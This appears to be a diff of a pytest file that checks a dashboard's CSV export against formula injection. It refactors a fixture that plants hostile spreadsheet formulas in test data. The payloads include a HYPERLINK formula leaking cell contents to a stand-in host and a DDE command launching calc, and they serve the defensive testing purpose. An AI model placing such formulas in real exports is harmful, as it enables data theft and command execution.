@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
 from pathlib import Path
 
 import pytest
@@ -14,8 +13,8 @@ import pytest
 from dashboard.__main__ import main
 from dashboard.export.figures import read, read_csv, records
 from dashboard.knowledge import load_knowledge
+from tests.pages.test_hostile_data import hostile_copy
 
-MINIMAL = Path(__file__).resolve().parents[1] / "knowledge" / "minimal"
 FORMULAS = {  # where in data/ -> what a hostile editor wrote there
     "figure label": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
     "event label": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -32,26 +31,14 @@ EDITS = {  # file: [(written, hostile YAML)]
         ("locator: Section 6.1, Table 1, row Headache", "locator: \"\\t=1+1\""),
     ],
     "events/common.yaml": [("label: Headache", "label: \"" + FORMULAS["event label"] + "\"")],
+    "sources/main.yaml": [("title: Exampleumab prescribing information (a fictional test label)", "title: \"\\r=1+1\"")],
 }
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.fixture
 def hostile(tmp_path) -> Path:
-    folder = tmp_path / "data"
-    shutil.copytree(MINIMAL, folder)
-    for file, edits in EDITS.items():
-        path = folder / file
-        text = path.read_text()
-        for written, bad in edits:
-            assert written in text
-            text = text.replace(written, bad, 1)
-        path.write_text(text)
-    sources = next((folder / "sources").glob("*.yaml"))
-    text = sources.read_text()
-    title = next(line for line in text.splitlines() if line.strip().startswith("title:"))
-    sources.write_text(text.replace(title, title.split("title:")[0] + "title: \"\\r=1+1\"", 1))
-    return folder
+    return hostile_copy(tmp_path / "data", EDITS)
 
 
 def cells(text: str) -> list[list[str]]:
